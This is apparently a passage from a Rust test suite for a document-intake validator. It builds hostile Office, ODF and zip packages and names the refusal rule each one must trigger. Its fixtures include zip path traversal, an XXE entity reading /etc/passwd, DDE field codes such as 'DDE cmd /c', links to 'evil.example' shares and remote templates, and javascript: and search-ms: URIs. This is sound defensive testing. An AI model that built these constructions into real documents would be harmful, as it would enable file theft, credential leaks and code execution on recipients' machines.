//! Documents in packages and archives that a taken child hands out: each is refused, and by the rule that is meant for
//! it. Nothing here does harm: macros are a few octets, addresses lead nowhere.

use crate::pack::{
    Entry, OFFICE, Pack, XML, archive, docx, manifest, odg, odp, ods, odt, pptx, rels, stored, types, xlsx,
    zip, zip_bent,
};
use crate::world::{attachment, refusal, with_part};

/// A hostile package: its name, octets and type, and the beginning of the rule that refuses it.
pub(crate) struct Hostile {
    name: String,
    octets: Vec<u8>,
    extension: &'static str,
    media_type: &'static str,
    rule: &'static str,
}

fn hostile(name: impl Into<String>, rule: &'static str, pack: &Pack) -> Hostile {
    of_octets(name, rule, pack, pack.octets())
}

fn of_octets(name: impl Into<String>, rule: &'static str, pack: &Pack, octets: Vec<u8>) -> Hostile {
    Hostile { name: name.into(), octets, extension: pack.extension, media_type: pack.media_type, rule }
}

const DOCUMENT: &str = "word/document.xml";
const SHEET: &str = "xl/worksheets/sheet1.xml";
const SLIDE: &str = "ppt/slides/slide1.xml";

/// The container, for each kind of package.
#[expect(clippy::too_many_lines, reason = "one row a hostile file")]
fn containers() -> Vec<Hostile> {
    let mut cases = Vec::new();
    for pack in [docx(), odt(), archive()] {
        let kind = pack.extension;
        let mut add = |name: &str, rule: &'static str, octets: Vec<u8>| {
            cases.push(of_octets(format!("{name} of {kind}"), rule, &pack, octets));
        };
        let bent = |change: &dyn Fn(&mut Vec<Entry>)| {
            let mut entries = pack.entries();
            change(&mut entries);
            zip(&entries)
        };
        let last = |change: &dyn Fn(&mut Entry)| bent(&|entries| change(entries.last_mut().unwrap()));
        let sound = pack.octets();
        add("octets before", "zip.", [b"MZ", &sound[..]].concat());
        add("octets behind", "zip.end", [&sound[..], b"x"].concat());
        add("two archives", "", [&sound[..], &sound[..]].concat());
        add("document before", "", [&b"%PDF-1.7\n"[..], &sound].concat());
        add("cut", "zip.", sound[..sound.len() - 1].to_vec());
        add(
            "comment of the file",
            "zip.end",
            zip_bent(&pack.entries(), &|end| {
                let at = end.len() - 2;
                end[at] = 3;
                end.extend(b"abc");
            }),
        );
        add("other count of members", "zip.end", zip_bent(&pack.entries(), &|end| end[8] ^= 1));
        add("second disk", "zip.end", zip_bent(&pack.entries(), &|end| end[4] = 1));
        add("other place of the directory", "zip.end", zip_bent(&pack.entries(), &|end| end[16] ^= 1));
        add(
            "end of zip64",
            "zip.end",
            zip_bent(&pack.entries(), &|end| {
                let mut more = [&b"PK\x06\x06"[..], &44u64.to_le_bytes(), &[0; 44]].concat();
                more.extend([&b"PK\x06\x07"[..], &[0; 16]].concat());
                end.splice(0..0, more);
            }),
        );
        add(
            "octets before the directory",
            "zip.",
            bent(&|entries| entries.last_mut().unwrap().behind = b"MZ".to_vec()),
        );
        add(
            "data descriptor",
            "zip.form",
            last(&|entry| {
                entry.flags |= 8;
                entry.behind = [&b"PK\x07\x08"[..], &[0; 12]].concat();
            }),
        );
        add("encrypted member", "zip.form", last(&|entry| entry.flags |= 1));
        add("member of another method", "zip.form", last(&|entry| entry.method = 12));
        add("another version", "zip.form", last(&|entry| entry.version = 45));
        add("extra field", "zip.form", last(&|entry| entry.extra = vec![0x75, 0x70, 1, 0, 0]));
        add("comment of a member", "zip.directory", last(&|entry| entry.comment = b"x".to_vec()));
        add("another date", "zip.form", last(&|entry| entry.moment = [1, 2, 3, 4]));
        add("symbolic link", "zip.directory", last(&|entry| entry.attributes = 0o120_777 << 16));
        add("other name in the directory", "zip.directory", last(&|entry| entry.listed_name[0] ^= 0x20));
        add("other place of a member", "zip.directory", last(&|entry| entry.pulled = 1));
        add("overlapping members", "zip.directory", last(&|entry| entry.pulled = 40));
        add("lying size", "", last(&|entry| entry.size += 1));
        add("size of four gibibytes", "zip.", last(&|entry| entry.size = u32::MAX));
        add("lying checksum", "", last(&|entry| entry.crc ^= 1));
        add(
            "octets behind the stream",
            "",
            last(&|entry| {
                if entry.method == 8 {
                    entry.packed.extend(b"MZ");
                } else {
                    entry.size += 1;
                }
            }),
        );
        add("member twice", "zip.name", bent(&|entries| entries.push(entries.last().unwrap().clone())));
        add(
            "member twice in other letters",
            "zip.name",
            bent(&|entries| {
                let first = entries.last().unwrap().clone();
                let name = String::from_utf8(first.name.clone()).unwrap();
                let other =
                    if name == name.to_uppercase() { name.to_lowercase() } else { name.to_uppercase() };
                entries.push(Entry {
                    name: other.clone().into_bytes(),
                    listed_name: other.into_bytes(),
                    ..first
                });
            }),
        );
        add("folder as a member", "", bent(&|entries| entries.push(stored("folder/", b""))));
        for (name, path) in [
            ("path upwards", "../x.xml"),
            ("path upwards inside", "word/../../x.xml"),
            ("absolute path", "/x.xml"),
            ("backslash", "word\\x.xml"),
            ("drive", "c:x.xml"),
            ("empty segment", "a//x.xml"),
            ("control character", "a\n.xml"),
            ("right to left override", "a\u{202e}lmx.xml"),
            ("zero width character", "a\u{200b}.xml"),
        ] {
            add(name, "zip.name", bent(&|entries| entries.push(stored(path, b"<a/>"))));
        }
        add(
            "file that is a folder, too",
            "zip.name",
            bent(&|entries| {
                entries.push(stored("q.txt", b"x\r\n"));
                entries.push(stored("q.txt/r.txt", b"x\r\n"));
            }),
        );
        add(
            "unmarked name",
            "zip.name",
            bent(&|entries| entries.push(Entry { flags: 0, ..stored("あ.xml", b"<a/>") })),
        );
        add(
            "name that is not UTF-8",
            "zip.name",
            bent(&|entries| {
                let name = b"\x82\xa0.xml".to_vec();
                entries.push(Entry {
                    name: name.clone(),
                    listed_name: name,
                    flags: 0x800,
                    ..stored("a", b"<a/>")
                });
            }),
        );
        add("no members", "zip.members", zip(&[]));
        add("no archive at all", "zip.", b"MZ\x90\0".to_vec());
    }
    cases
}

/// The XML of parts.
fn forms() -> Vec<Hostile> {
    let root = |text: &str| docx().set("word/styles1.xml", text);
    let bend = |from: &str, to: &str| docx().bend(DOCUMENT, from, to);
    let utf_16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(XML.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let deep = format!("<w:p>{}{}</w:p></w:body>", "<w:r>".repeat(300), "</w:r>".repeat(300));
    vec![
        hostile("document type", "xml.", &bend("<w:document", "<!DOCTYPE w:document><w:document")),
        hostile("external entity", "xml.", &bend("<w:document", "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document")),
        hostile("entity", "xml.", &bend("見積書", "&x;")),
        hostile("reference to any character", "xml.", &bend("見積書", "&#x41;")),
        hostile("instruction for office", "xml.", &bend("<w:document", "<?mso-application progid=\"Word.Document\"?><w:document")),
        hostile("style sheet", "xml.", &bend("<w:body>", "<w:body><?xml-stylesheet href=\"http://x\"?>")),
        hostile("comment", "xml.", &bend("<w:body>", "<w:body><!-- x -->")),
        hostile("cdata", "xml.", &bend("見積書", "<![CDATA[x]]>")),
        hostile("undeclared prefix", "xml.", &bend("<w:body>", "<w:body><z:x/>")),
        hostile("namespace below the root", "xml.", &bend("<w:body>", "<w:body xmlns:z=\"urn:z\">")),
        hostile("unknown namespace", "markup.namespace", &bend("<w:document", "<w:document xmlns:z=\"urn:z\"")),
        hostile(
            "old drawings",
            "markup.namespace",
            &bend("xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\"", "xmlns:v=\"urn:schemas-microsoft-com:vml\""),
        ),
        hostile("another prefix", "markup.namespace", &bend("xmlns:w14=", "xmlns:evil=")),
        hostile("both editions", "markup.namespace", &bend(
            "xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"",
            "xmlns:pic=\"http://purl.oclc.org/ooxml/drawingml/picture\"",
        )),
        hostile("another declaration", "xml.", &bend("encoding=\"UTF-8\"", "encoding=\"UTF-7\"")),
        hostile("no declaration", "xml.", &root("<w:styles/>")),
        hostile("byte order mark", "xml.", &root(&format!("\u{feff}{XML}<w:styles/>"))),
        hostile("part in utf-16", "xml.", &docx().set("word/styles1.xml", utf_16)),
        hostile("part in utf-7", "xml.", &root("+ADw-?xml version=\"1.0\"?+AD4-")),
        hostile("not utf-8", "xml.", &docx().set("word/styles1.xml", [XML.as_bytes(), b"\xff"].concat())),
        hostile("control character in a text", "xml.", &bend("見積書", "\u{1}")),
        hostile("noncharacter", "xml.", &bend("見積書", "\u{ffff}")),
        hostile("unknown element", "markup.element", &bend("<w:body>", "<w:body><w:evil/>")),
        hostile("unknown attribute", "markup.attribute", &bend("<w:body>", "<w:body><w:p w:onload=\"x\"/>")),
        hostile("attribute of xml", "markup.attribute", &bend("<w:body>", "<w:body><w:p xml:base=\"http://x/\"/>")),
        hostile("too deep", "xml.depth", &bend("</w:body>", &deep)),
        hostile("unclosed", "xml.", &bend("</w:document>", "")),
        hostile("something behind", "xml.", &bend("</w:document>", "</w:document><a/>")),
        hostile("ignores what is not declared", "office.choice", &bend("mc:Ignorable=\"w14\"", "mc:Ignorable=\"zz\"")),
        hostile("must be understood", "office.choice", &bend("mc:Ignorable=\"w14\"", "mc:Ignorable=\"w14\" mc:MustUnderstand=\"w14\"").set("word/styles1.xml", format!("{XML}<w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" mc:ProcessContent=\"w\"/>"))),
        hostile("manifest with a document type", "xml.", &odt().bend("META-INF/manifest.xml", "<manifest:manifest", "<!DOCTYPE m><manifest:manifest")),
        hostile("relationships with an entity", "xml.", &docx().bend("_rels/.rels", "Id=\"rId1\"", "Id=\"&x;\"")),
    ]
}

/// A relationship, and the part to which it leads, besides those of a sound document.
fn joined(pack: Pack, part: &str, relation: (&str, &str), target: &str, kind: &str, data: &[u8]) -> Pack {
    let (folder, file) = part.rsplit_once('/').unwrap();
    let list = format!("{folder}/_rels/{file}.rels");
    let (id, end) = relation;
    let whole = rels(&[(id, end, target)]);
    let one =
        &whole[whole.find("<rel:Relationship Id").unwrap()..whole.find("</rel:Relationships>").unwrap()];
    let pack = pack.bend(&list, "</rel:Relationships>", &format!("{one}</rel:Relationships>"));
    if target.starts_with('!') {
        return pack;
    }
    let name = target.trim_start_matches('/').to_owned();
    let whole = types(&[(&name, kind)]);
    let one = &whole[whole.find("<ct:Override").unwrap()..whole.find("</ct:Types>").unwrap()];
    let pack = pack.bend("[Content_Types].xml", "</ct:Types>", &format!("{one}</ct:Types>"));
    if pack.members.iter().any(|(known, _)| *known == name) { pack } else { pack.with(&name, data) }
}

/// Parts and relationships of Office packages.
#[expect(clippy::too_many_lines, reason = "one row a hostile file")]
fn parts() -> Vec<Hostile> {
    const MACRO: &str = "application/vnd.ms-office.vbaProject";
    let word = |relation: &str, target: &str, kind: &str, data: &[u8]| {
        joined(docx(), DOCUMENT, ("rId9", relation), target, kind, data)
    };
    let sheet = |relation: &str, target: &str, kind: &str, data: &[u8]| {
        joined(xlsx(), SHEET, ("rId9", relation), target, kind, data)
    };
    let mut cases = vec![
        hostile("macros", "office.", &word("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "/word/vbaProject.bin", MACRO, b"\xd0\xcf\x11\xe0")),
        hostile("macros under another name", "office.relation", &word("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "/word/styles9.xml", MACRO, b"\xd0\xcf\x11\xe0")),
        hostile("macro data", "office.relation", &word("http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", b"")),
        hostile("control", "office.relation", &word("control", "/word/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"")),
        hostile("old object", "office.relation", &word("oleObject", "/word/object1.xml", "application/vnd.openxmlformats-officedocument.oleObject", b"\xd0\xcf\x11\xe0")),
        hostile("package in the package", "office.", &word("package", "/word/embeddings/a.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK")),
        hostile("linked object", "office.relation", &word("oleObject", "!file:///c:/x.xls", "", b"")),
        hostile("linked picture", "office.relation", &word("image", "!http://evil.example/a.png", "", b"")),
        hostile("linked share as a picture", "office.relation", &word("image", "!file://///evil/a.png", "", b"")),
        hostile("attached template", "office.relation", &word("attachedTemplate", "!http://evil.example/a.dotm", "", b"")),
        hostile("subdocument", "office.relation", &word("subDocument", "!file:///c:/a.docx", "", b"")),
        hostile("frame", "office.relation", &word("frame", "!http://evil.example/", "", b"")),
        hostile("mail merge source", "office.relation", &word("mailMergeSource", "!file:///c:/a.mdb", "", b"")),
        hostile("alternative page", "office.relation", &word("aFChunk", "/word/afchunk1.xml", "text/html", b"<html/>")),
        hostile("custom xml", "office.relation", &word("customXml", "/customXml/item1.xml", "application/xml", b"<a/>")),
        hostile("printer settings", "office.", &word("printerSettings", "/word/printerSettings1.bin", "application/x", b"x")),
        hostile("font part", "office.", &word("font", "/word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"x")),
        hostile("glossary", "office.relation", &word("glossaryDocument", "/word/glossary1.xml", "wordprocessingml.document.glossary", b"")),
        hostile("web settings", "office.relation", &word("webSettings", "/word/webSettings.xml", "wordprocessingml.webSettings", b"")),
        hostile("web extension", "office.relation", &word("http://schemas.microsoft.com/office/2011/relationships/webextension", "/word/webextension1.xml", "application/vnd.ms-office.webextension+xml", b"")),
        hostile("ribbon", "office.relation", &word("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "/customUI/customUI.xml", "application/xml", b"")),
        hostile("drawing in svg", "office.", &word("image", "/word/media/image2.svg", "image/svg+xml", b"<svg/>")),
        hostile("drawing in emf", "office.", &word("image", "/word/media/image2.emf", "image/x-emf", b"\x01\0\0\0")),
        hostile("drawing in svg that is named a picture", "office.relation", &word("image", "/word/media/image2.png", "image/svg+xml", b"<svg/>")),
        hostile("drawing in vml", "office.", &word("vmlDrawing", "/word/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", b"<xml/>")),
        hostile("sound", "office.relation", &word("audio", "!file:///c:/a.wav", "", b"")),
        hostile("video page", "office.relation", &word("video", "!https://evil.example/", "", b"")),
        hostile("relationship of an unknown base", "office.relation", &word("http://evil.example/relationships/styles", "/word/styles2.xml", "wordprocessingml.styles", b"")),
        hostile("external book", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "externalLink"), "/xl/externalLinks/externalLink1.xml", "spreadsheetml.externalLink", b"")),
        hostile("external path", "office.relation", &sheet("externalLinkPath", "!file:///c:/a.xlsx", "", b"")),
        hostile("connections", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "connections"), "/xl/connections.xml", "spreadsheetml.connections", b"")),
        hostile("query", "office.relation", &sheet("queryTable", "/xl/queryTables/queryTable1.xml", "spreadsheetml.queryTable", b"")),
        hostile("macro sheet", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"), "/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", b"")),
        hostile("macro sheet as a sheet", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "worksheet"), "/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", b"")),
        hostile("dialogue sheet", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "dialogsheet"), "/xl/dialogsheets/sheet1.xml", "spreadsheetml.dialogsheet", b"")),
        hostile("form control", "office.relation", &sheet("ctrlProp", "/xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml", b"")),
        hostile("real time data", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "volatileDependencies"), "/xl/volatileDependencies.xml", "spreadsheetml.volatileDependencies", b"")),
        hostile("revisions", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "revisionHeaders"), "/xl/revisions/revisionHeaders.xml", "spreadsheetml.revisionHeaders", b"")),
        hostile("map of xml", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "xmlMaps"), "/xl/xmlMaps.xml", "application/xml", b"")),
        hostile("binary sheet", "office.", &joined(xlsx(), "xl/workbook.xml", ("rId9", "worksheet"), "/xl/worksheets/sheet2.bin", "application/vnd.ms-excel.worksheet", b"")),
        hostile("sheet without its element", "office.relation", &joined(xlsx(), "xl/workbook.xml", ("rId9", "worksheet"), "/xl/worksheets/sheet1.xml", "spreadsheetml.worksheet", b"").bend("[Content_Types].xml", "<ct:Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>", "")),
        hostile("tags of a slide", "office.relation", &joined(pptx(), SLIDE, ("rId9", "tags"), "/ppt/tags/tag1.xml", "presentationml.tags", b"")),
        hostile("media of a slide", "office.relation", &joined(pptx(), SLIDE, ("rId9", "http://schemas.microsoft.com/office/2007/relationships/media"), "/ppt/media/media1.jpeg", "image/jpeg", &crate::world::jpeg())),
        hostile("slide in a text", "office.relation", &word("slide", "/ppt/slides/slide1.xml", "presentationml.slide", b"")),
        hostile("part without a relationship", "office.left_over", &docx().with("word/header9.xml", format!("{XML}<a/>"))),
        hostile("picture without a relationship", "office.left_over", &docx().with("word/media/image9.png", crate::world::png(&[]))),
        hostile("relationships without a part", "office.left_over", &docx().with("word/_rels/header9.xml.rels", rels(&[]))),
        hostile("signature", "office.left_over", &docx().with("_xmlsignatures/sig1.xml", "x")),
        hostile("program as a part", "office.name", &docx().with("word/media/image2.exe", "MZ")),
        hostile("shortcut as a part", "office.name", &docx().with("word/x.lnk", "L")),
        hostile("page as a part", "office.name", &docx().with("word/x.html", "<script/>")),
        hostile("part of odd letters", "office.name", &docx().with("word/a b.xml", "x")),
        hostile("part of two extensions", "office.name", &docx().with("word/a.exe.xml", "x")),
        hostile("main part of macros", "office.relation", &docx().bend("[Content_Types].xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        hostile("main part of a template", "office.relation", &docx().bend("[Content_Types].xml", "wordprocessingml.document.main", "wordprocessingml.template.main")),
        hostile("book with macros", "office.relation", &xlsx().bend("[Content_Types].xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        hostile("add-in", "office.relation", &xlsx().bend("[Content_Types].xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml")),
        hostile("show that starts by itself", "office.relation", &pptx().bend("[Content_Types].xml", "presentationml.presentation.main", "presentationml.slideshow.main")),
        hostile("two main parts", "office.main", &docx().set("_rels/.rels", rels(&[("rId1", "officeDocument", "word/document.xml"), ("rId2", "officeDocument", "xl/workbook.xml")])).bend("[Content_Types].xml", "</ct:Types>", "<ct:Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></ct:Types>").with("xl/workbook.xml", "x")),
        hostile("no main part", "office.main", &docx().set("_rels/.rels", rels(&[]))),
        hostile("thumbnail", "office.relation", &docx().bend("_rels/.rels", "</rel:Relationships>", "<rel:Relationship Id=\"t\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail\" Target=\"word/media/image1.png\"/></rel:Relationships>")),
        hostile("custom properties", "office.relation", &docx().bend("_rels/.rels", "</rel:Relationships>", &format!("<rel:Relationship Id=\"t\" Type=\"{OFFICE}/custom-properties\" Target=\"word/styles1.xml\"/></rel:Relationships>"))),
        hostile("types that are not first", "office.content_types", &{
            let mut pack = docx();
            pack.members.swap(0, 1);
            pack
        }),
        hostile("default of a program", "office.content_types", &docx().bend("[Content_Types].xml", "<ct:Override", "<ct:Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><ct:Override")),
        hostile("default that lies", "office.content_types", &docx().bend("[Content_Types].xml", "ContentType=\"image/png\"", "ContentType=\"image/svg+xml\"")),
        hostile("type twice", "office.content_types", &docx().bend("[Content_Types].xml", "</ct:Types>", "<ct:Override PartName=\"/WORD/styles1.xml\" ContentType=\"x/y\"/></ct:Types>")),
        hostile("type of what is not there", "office.content_types", &docx().bend("[Content_Types].xml", "</ct:Types>", "<ct:Override PartName=\"/word/vbaProject.bin\" ContentType=\"x/y\"/></ct:Types>")),
        hostile("relationship name twice", "office.relation", &docx().bend("word/_rels/document.xml.rels", "Id=\"rId2\"", "Id=\"rId1\"")),
        hostile("relationship to nothing", "office.relation", &docx().bend("word/_rels/document.xml.rels", "styles1.xml", "styles2.xml")),
        hostile("relationship out of the package", "office.relation", &docx().bend("word/_rels/document.xml.rels", "styles1.xml", "../../styles1.xml")),
        hostile("relationship through a percent sign", "office.relation", &docx().bend("word/_rels/document.xml.rels", "styles1.xml", "%2e%2e/word/styles1.xml")),
        hostile("relationship in other letters", "office.relation", &docx().bend("word/_rels/document.xml.rels", "styles1.xml", "Styles1.xml")),
        hostile("relationship of another mode", "office.relation", &docx().bend("word/_rels/document.xml.rels", "Target=\"styles1.xml\"", "Target=\"styles1.xml\" TargetMode=\"external\"")),
        hostile("attribute of a relationship", "office.relation", &docx().bend("word/_rels/document.xml.rels", "Target=\"styles1.xml\"", "Target=\"styles1.xml\" Evil=\"1\"")),
        hostile("element that names nothing", "office.reference", &docx().bend(DOCUMENT, "r:id=\"rId2\"", "r:id=\"rId7\"")),
        hostile("element that names another kind", "office.reference", &docx().bend(DOCUMENT, "r:id=\"rId2\"", "r:id=\"rId1\"")),
        hostile("relationship that nothing names", "office.relation", &docx().bend(DOCUMENT, "<w:hyperlink r:id=\"rId2\">", "<w:hyperlink w:anchor=\"a\">")),
        hostile("relationships of both editions", "office.edition", &docx().bend("word/_rels/document.xml.rels", &format!("{OFFICE}/styles"), "http://purl.oclc.org/ooxml/officeDocument/relationships/styles")),
        hostile("part of another edition", "office.edition", &docx().bend("word/styles1.xml", "http://schemas.openxmlformats.org/wordprocessingml/2006/main", "http://purl.oclc.org/ooxml/wordprocessingml/main")),
        hostile("styles that are a document", "office.root", &docx().bend("word/styles1.xml", "<w:styles", "<w:document").bend("word/styles1.xml", "</w:styles", "</w:document")),
        hostile("picture that is a program", "png.", &docx().set("word/media/image1.png", "MZ\x7f")),
        hostile("picture that is a page", "png.", &docx().set("word/media/image1.png", "<html>")),
        hostile("picture with a text", "png.", &docx().set("word/media/image1.png", crate::world::png(&crate::world::chunk(b"tEXt", b"a\0b")))),
        hostile("picture with an archive behind", "png.", &docx().set("word/media/image1.png", [crate::world::png(&[]), b"PK\x05\x06".to_vec(), vec![0; 18]].concat())),
        hostile("photo cut short", "jpeg.", &pptx().set("ppt/media/image1.jpeg", &crate::world::jpeg()[..40])),
        hostile("text that is a book", "office.", &Pack { extension: "docx", media_type: docx().media_type, ..xlsx() }),
        hostile("text that is an open text", "office.", &Pack { extension: "docx", media_type: docx().media_type, ..odt() }),
    ];
    for (name, target) in LINKS {
        let pack = docx().bend("word/_rels/document.xml.rels", "https://www.city.example.lg.jp/", target);
        cases.push(hostile(format!("link to {name}"), "office.link", &pack));
    }
    cases
}

/// Where no link may lead.
const LINKS: &[(&str, &str)] = &[
    ("a file", "file:///c:/windows/x"),
    ("a share", "\\\\evil.example\\share"),
    ("a share with slashes", "//evil.example/share"),
    ("a share as a file", "file://evil.example/share"),
    ("a script", "javascript:alert(1)"),
    ("an old script", "vbscript:x"),
    ("word", "ms-word:ofe|u|http://evil.example/x"),
    ("a search", "search-ms:query=x&amp;crumb=location:\\\\evil"),
    ("data", "data:text/html,x"),
    ("help", "mk:@MSITStore:c:\\x.chm"),
    ("someone else behind a name", "https://www.city.example.lg.jp@evil.example/"),
    ("a host of full width", "https://ｅｖｉｌ.example/"),
    ("a slash that is none", "https://www.city.example.lg.jp／evil"),
    ("a hidden character", "https://exam\u{200b}ple.jp/"),
    ("a turned name", "https://example.jp/\u{202e}gpj.exe"),
    ("a line of its own", "https://example.jp/&#10;x"),
    ("a backslash", "https:\\\\example.jp"),
    ("nothing", ""),
    ("a place without a host", "http:///x"),
    ("an attachment", "mailto:a@example.jp?attach=c:/x"),
    ("a name alone", "www.example.jp"),
    ("a bookmark", "#a"),
];

/// Texts: fields and other elements that act.
#[expect(clippy::too_many_lines, reason = "one row a hostile file")]
fn texts() -> Vec<Hostile> {
    let word = |name: &str, rule: &'static str, inside: &str| {
        hostile(name, rule, &docx().bend(DOCUMENT, "</w:body>", &format!("{inside}</w:body>")))
    };
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let code = |text: &str| format!("<w:r><w:instrText xml:space=\"preserve\">{text}</w:instrText></w:r>");
    let field = |pieces: &[&str]| {
        let pieces: String = pieces.iter().map(|piece| code(piece)).collect();
        format!(
            "<w:p>{}{pieces}{}<w:r><w:t>x</w:t></w:r>{}</w:p>",
            mark("begin"),
            mark("separate"),
            mark("end")
        )
    };
    let mut cases = Vec::new();
    for verb in [
        "DDE cmd /c",
        "DDEAUTO c:\\\\x",
        "INCLUDETEXT x",
        "INCLUDEPICTURE \"http://x\"",
        "INCLUDE x",
        "IMPORT x",
        "LINK a b",
        "EMBED x",
        "DATABASE x",
        "RD x",
        "MACROBUTTON x y",
        "GOTOBUTTON x y",
        "PRINT x",
        "PRIVATE x",
        "ADDIN x",
        "CONTROL x",
        "HTMLCONTROL x",
        "DOCVARIABLE x",
        "AUTOTEXT x",
        "SET a b",
        "ASK a b",
        "FILLIN x",
        "INFO x",
        "unknown",
    ] {
        let quoted = verb.replace('"', "&quot;");
        cases.push(word(&format!("field {verb}"), "field.word", &field(&[&quoted])));
        cases.push(word(
            &format!("simple field {verb}"),
            "field.word",
            &format!("<w:p><w:fldSimple w:instr=\" {quoted} \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"),
        ));
    }
    let nested = format!(
        "<w:p>{}{}{}{}{}{}</w:p>",
        mark("begin"),
        mark("begin"),
        code("QUOTE 68 68 69"),
        mark("end"),
        code(" c:\\\\x"),
        mark("end")
    );
    let deleted = format!(
        "<w:p>{}{}<w:del w:id=\"1\"><w:r><w:delInstrText>ATE</w:delInstrText></w:r></w:del>{}{}</w:p>",
        mark("begin"),
        code("D"),
        code("DE x"),
        mark("end")
    );
    let inserted = format!(
        "<w:p>{}{}<w:ins w:id=\"1\">{}</w:ins>{}{}</w:p>",
        mark("begin"),
        code("D"),
        code("ATE \\@ "),
        code("DE x"),
        mark("end")
    );
    let story = format!(
        "<w:p>{}<w:r><w:pict><w:txbxContent><w:p>{}</w:p></w:txbxContent></w:pict></w:r>{}</w:p>",
        mark("begin"),
        code("DDE x"),
        mark("end")
    );
    let tabbed = format!(
        "<w:p>{}{}<w:r><w:tab/></w:r>{}{}</w:p>",
        mark("begin"),
        code("PRINT"),
        code("DATE"),
        mark("end")
    );
    let choice = format!(
        "<w:p>{}<mc:AlternateContent><mc:Choice Requires=\"w14\">{}</mc:Choice></mc:AlternateContent>{}</w:p>",
        mark("begin"),
        code("DDE x"),
        mark("end")
    );
    cases.extend([
        word("field in two runs", "field.word", &field(&["DD", "EAUTO x"])),
        word("field letter by letter", "field.word", &field(&["D", "D", "E", " ", "x"])),
        word("field of small letters", "field.word", &field(&["dDe x"])),
        word("field whose word is made", "field.word", &nested),
        word("field with deleted letters", "field.", &deleted),
        word("field with inserted letters", "field.", &inserted),
        word("field in a text box", "field.", &story),
        word("field of two words with a tab", "field.word", &tabbed),
        word("field in an alternative", "field.", &choice),
        word("field without an end", "field.form", &format!("<w:p>{}</w:p>", mark("begin"))),
        word("instruction without a field", "field.form", &format!("<w:p>{}</w:p>", code("DDE x"))),
        word("mark of another kind", "field.form", &format!("<w:p>{}</w:p>", mark("evil"))),
        word("link field to a file", "field.link", &field(&["HYPERLINK &quot;file:///x&quot;"])),
        word("link field to a share", "field.link", &field(&["HYPERLINK &quot;\\\\\\\\evil\\\\x&quot;"])),
        word("link field with two places", "field.link", &field(&["HYPERLINK &quot;http://a/&quot; &quot;file:///x&quot;"])),
        word("link field to a share as a place", "field.link", &field(&["HYPERLINK \\l &quot;\\\\\\\\evil\\\\x&quot;"])),
        word("link field that is made", "field.link", &format!("<w:p>{}{}{}{}{}{}</w:p>", mark("begin"), code("HYPERLINK "), mark("begin"), code("QUOTE x"), mark("end"), mark("end"))),
        word("field data", "markup.element", "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:fldData>AAAA</w:fldData></w:fldChar></w:r></w:p>"),
        word("object", "markup.element", "<w:p><w:r><w:object/></w:r></w:p>"),
        word("control in a text", "markup.element", "<w:p><w:r><w:control/></w:r></w:p>"),
        word("alternative chunk", "markup.element", "<w:altChunk r:id=\"rId2\"/>"),
        word("subdocument in a text", "markup.element", "<w:subDoc r:id=\"rId2\"/>"),
        word("data binding", "markup.element", "<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"x\"/></w:sdtPr></w:sdt>"),
        word("form that runs a macro", "markup.element", "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:entryMacro w:val=\"x\"/></w:ffData></w:fldChar></w:r></w:p>"),
        word("linked picture in a text", "markup.attribute", "<w:p><a:blip r:link=\"rId2\"/></w:p>"),
        word("link to a place outside", "office.link", "<w:p><w:hyperlink w:anchor=\"\\\\evil\\x\"/></w:p>"),
        word("link to a document outside", "office.link", "<w:p><w:hyperlink w:docLocation=\"file:///x\"/></w:p>"),
        word("click on a picture", "office.action", "<w:p><a:hlinkClick r:id=\"rId2\" action=\"ppaction://macro?name=x\"/></w:p>"),
        word("choice of what is not there", "office.choice", "<w:p><mc:AlternateContent><mc:Choice Requires=\"zz\"/></mc:AlternateContent></w:p>"),
    ]);
    cases
}

/// Sheets: formulas and names; slides: actions.
#[expect(clippy::too_many_lines, reason = "one row a hostile file")]
fn sheets() -> Vec<Hostile> {
